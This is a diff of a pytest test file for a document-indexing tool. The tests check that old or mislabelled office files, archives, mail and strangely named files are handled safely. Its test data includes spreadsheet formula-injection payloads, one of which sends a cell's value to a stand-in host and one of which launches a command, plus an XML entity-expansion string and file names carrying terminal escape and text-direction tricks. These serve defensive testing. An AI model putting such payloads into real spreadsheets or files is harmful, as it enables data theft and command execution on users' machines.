@@ -3,7 +3,9 @@
 from __future__ import annotations
 
 import io
+import os
 import re
+import socket
 import struct
 import time
 import zipfile
@@ -16,6 +18,7 @@ import pytest
 from format_files import docx, odt, pack, pdf, word_paragraph, xlsx
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
+from store_fakes import Ear, ensure
 
 from assistant.mentions import find_mentions
 from assistant.question import analyse
@@ -30,9 +33,8 @@ from index.records import find_records, read_record
 from index.repair import repair_text, replay
 from index.sentences import split_sentences
 from index.settings import Settings
-from index.store import ensure_index
+from index.store import ensure_index, verify_index
 from index.values import Record
-from index.watcher import Watcher
 
 LAUGHS = (
     '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
@@ -112,7 +114,8 @@ def test_a_pdf_of_pictures_needs_ocr() -> None:
         ("a.pptx", b"PK\x03\x04"), ("a.odt", pack({"content.xml": "<x/>"})), ("a.xlsx", pack({"xl/workbook.xml": ""})),
         ("a.pdf", b"%PDF-1.7\nnothing"), ("a.pdf", b"nothing"), ("a.pdf", pdf([["x"]])[:200]), ("a.rtf", b"no rtf"), ("a.rtf", b"{\\rtf1" + b"{" * 2000),
         ("a.json", b"{"), ("a.json", b'{"name": "package"}'), ("a.json", b"[" * 200_000), ("a.srt", b"no times"), ("a.eml", b"no mail"),
-        ("a.zip", pack({"a.zip": pack({"a.txt": "x"})})), ("a.zip", pack({"p.png": "x"})), ("a.zip", pack({"a.txt": "x"}).replace(b"a.txt", b"\0.txt")), ("a.zip", pack({"a.docx": b"x", "b.txt": "y"})),
+        ("a.zip", pack({"a.zip": pack({"a.txt": "x"})})), ("a.zip", pack({"p.png": "x"})), ("a.zip", pack({"a.txt": "x"}).replace(b"a.txt", b"\0.txt")), ("a.zip", pack({"a.docx": b"x", "b.pdf": "y"})),
+        ("a.doc", b"\xd0\xcf\x11\xe0" + b"\0" * 600), ("a.xls", b"PK\x03\x04"), ("a.ppt", pack({"x": "y"})), ("a.rar", b"Rar!"), ("a.doc", b""),
         ("a.html", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4), ("a.csv", b""),
     ],
 )  # fmt: skip
@@ -202,6 +205,61 @@ def test_characters_that_deceive_are_repaired(odd: str, plain: str) -> None:
     assert repair_text(f"會議紀錄{odd}完").text == f"會議紀錄{plain}完"
 
 
+@pytest.mark.parametrize("name", ["a.doc", "a.xls", "a.ppt", "a.wps"])
+def test_old_formats_say_what_to_save_them_as(name: str) -> None:
+    wanted = {"a.doc": ".docx", "a.xls": ".xlsx", "a.ppt": ".pptx", "a.wps": ".docx"}[name]
+    line = refused(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, name)
+    assert line == f"found a format that is not read ({name[1:]}) in {name}, expected {wanted}; open it and save it as {wanted}"
+
+
+def test_files_under_a_false_suffix_are_read_for_what_they_are() -> None:
+    assert read(b"{\\rtf1 One.\\par}", "a.doc") == "One.\n"
+    assert read("\ufeff<html><table><tr><th>事項<th>期限<tr><td>修路<td>5月</table></html>".encode(), "a.xls") == "- 事項：修路；期限：5月\n"
+    assert read(docx(word_paragraph("One.")), "a.doc") == "One.\n"
+
+
+def test_formulas_in_a_table_are_text_and_nothing_else() -> None:
+    cells = ['=HYPERLINK("http://x.y/?"&A1)', "+1+1", "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0", "=1+1"]
+    table = "事項,備註\n" + "".join(f'修路,"{cell.replace(chr(34), chr(34) * 2)}"\n' for cell in cells)
+    assert read(table.encode(), "a.csv") == "".join(f"- 事項：修路；備註：{cell}\n" for cell in cells)
+    formula = '<row><c r="A1"><f>HYPERLINK("http://x.y")</f><v>7</v></c><c r="B1"><f>1+1</f></c></row>'
+    assert read(xlsx({"Sheet1": formula}), "a.xlsx") == "7\n"
+
+
+def test_what_of_an_archive_or_a_mail_cannot_be_read_is_left_out_and_told(tmp_path: Path) -> None:
+    seeds = tmp_path / "seeds"
+    seeds.mkdir()
+    (seeds / "a.zip").write_bytes(pack({"good.txt": "會議由李明主持。", "bad.docx": b"x", "old.doc": b"\xd0\xcf\x11\xe0", "p.png": "x"}))
+    (seeds / "b.eml").write_bytes(b"Subject: Minutes\nContent-Type: multipart/mixed; boundary=x\n\n--x\n\nBody.\n--x\nContent-Disposition: attachment; filename=t.pdf\n\nzz\n--x--\n")
+    ear = Ear()
+    index = ensure(seeds, tmp_path / "home", ear)
+    assert index.record_ids == ("a.zip", "b.eml")
+    assert [entry.path for entry in index.manifest.skipped] == ["a.zip/bad.docx", "a.zip/old.doc", "b.eml/t.pdf"]
+    assert "skipped 3 unreadable: a.zip/bad.docx, a.zip/old.doc, b.eml/t.pdf." in ear.lines[0]
+    assert ["save it again" in ear.lines[1], "save it as .docx" in ear.lines[2], len(ear.lines)] == [True, True, 4]
+    ensure(seeds, tmp_path / "home", ear)
+    assert len(ear.lines) == 4
+    (seeds / "c.txt").write_text("散會。", "utf-8")
+    assert len(ensure(seeds, tmp_path / "home", ear).manifest.skipped) == 3
+    assert len(ear.lines) == 5
+    (seeds / "a.zip").write_bytes(pack({"good.txt": "會議由李明主持。"}))
+    assert [entry.path for entry in ensure(seeds, tmp_path / "home", ear).manifest.skipped] == ["b.eml/t.pdf"]
+
+
+def test_names_of_files_may_be_anything(tmp_path: Path) -> None:
+    """Not UTF-8, with line ends, escapes and direction marks: indexed, and told of on one line that can be shown."""
+    seeds, ear = tmp_path / "seeds", Ear()
+    seeds.mkdir()
+    for name in (b"\xff\xfe.txt", b"a\nb.txt", "x\u202etxt.txt".encode(), b"\x1b[31mred.txt", "𠮷.txt".encode()):
+        Path(os.fsdecode(bytes(seeds) + b"/" + name)).write_text("會議由李明主持。", "utf-8")
+        Path(os.fsdecode(bytes(seeds) + b"/bad-" + name[:-4] + b".pdf")).write_bytes(b"x")
+    index = ensure(seeds, tmp_path / "home", ear)
+    assert len(index.record_ids) == 5 and len(index.manifest.skipped) == 5
+    assert all(line.isprintable() for line in ear.lines) and len(ear.lines) == 6
+    assert verify_index(tmp_path / "home") == ()
+    assert index.sentences(index.record_ids[0])[0].text == "會議由李明主持。"
+
+
 def damaged(raw: bytes, *, place: int) -> bytes:
     return raw[:place] + bytes([raw[place] ^ 0xFF]) + raw[place + 1 :]
 
@@ -224,23 +282,15 @@ HOSTILE: dict[str, Callable[[], bytes]] = {
     "method.docx": entry_without_method,
     "checksum.docx": lambda: damaged(pack({"word/document.xml": "x" * 50}, method=zipfile.ZIP_STORED), place=60),
     "package.json": lambda: b'{"name": "x"}',
+    "old.doc": lambda: b"\xd0\xcf\x11\xe0" + b"\0" * 600,
     "zeros.html": lambda: b"\0" * 5000,
     "noise.txt": lambda: zlib.compress(b"".join(struct.pack("<I", n * 2654435761 % 2**32) for n in range(3000))),
 }
 
 
-class Ear(Watcher):
-    """Keeps what is announced."""
-
-    def __init__(self) -> None:
-        self.lines: list[str] = []
-
-    def announce(self, line: str) -> None:
-        self.lines.append(line)
-
-
 @pytest.mark.slow
-def test_one_bad_file_spoils_no_folder(tmp_path: Path) -> None:
+def test_one_bad_file_spoils_no_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(socket, "socket", lambda *_, **__: pytest.fail("a record reached for the network"))
     seeds = tmp_path / "seeds"
     seeds.mkdir()
     for name, make in HOSTILE.items():
